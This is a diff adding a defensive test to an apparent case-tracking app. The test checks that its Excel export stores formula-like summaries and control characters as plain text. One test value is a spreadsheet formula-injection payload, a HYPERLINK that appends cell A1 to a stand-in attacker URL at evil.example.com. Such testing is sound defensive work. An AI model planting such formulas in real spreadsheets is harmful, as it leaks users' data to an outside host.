@@ -468,3 +468,41 @@ async def test_all_time_starts_at_the_earliest_record(
         start, end = await export.resolve(session, export.Preset.ALL_TIME, settings)
     assert start == date(2026, 9, 1)  # the September results
     assert end == cases.local_today(settings)
+
+
+async def test_text_that_looks_like_a_formula_or_holds_control_characters_stays_text(
+    sessions: async_sessionmaker[AsyncSession],
+    settings: Settings,
+    texts: Texts,
+    filled: dict[str, int],
+) -> None:
+    formula = '=HYPERLINK("https://evil.example.com/?"&A1,"Открыть")'
+    async with sessions() as session:
+        other = await person(session, OTHER)
+        south = (await session.execute(select(WorkingGroup))).scalar_one()
+        for summary in (formula, "Клиент\x0bждал\x1f ответа", "=1+2"):
+            session.add(
+                Case(
+                    tab=CaseTab.CASES,
+                    category=CaseCategory.PROCESS,
+                    source=CaseSource.CALL,
+                    manager_id=other.id,
+                    group_id=south.id,
+                    incident_date=date(2026, 10, 2),
+                    summary=summary,
+                    state=CaseState.NEW,
+                    created_at=FIRST_IN + timedelta(days=3),
+                )
+            )
+        await session.commit()
+    made = await run_export(sessions, settings, texts, *OCTOBER)
+    book = load_workbook(io.BytesIO(made.data))
+    sheet = book["Кейсы"]
+    column = rows(book, "Кейсы")[0].index("Суть") + 1
+    summaries = [sheet.cell(row, column) for row in range(2, sheet.max_row + 1)]
+    cells = {cell.value: cell.data_type for cell in summaries}
+    # Stored as text: Excel shows it and never runs it; the value is the database's.
+    assert cells[formula] == "s"
+    assert cells["=1+2"] == "s"
+    # A character a workbook cannot hold is left out, not the whole export.
+    assert cells["Клиентждал ответа"] == "s"
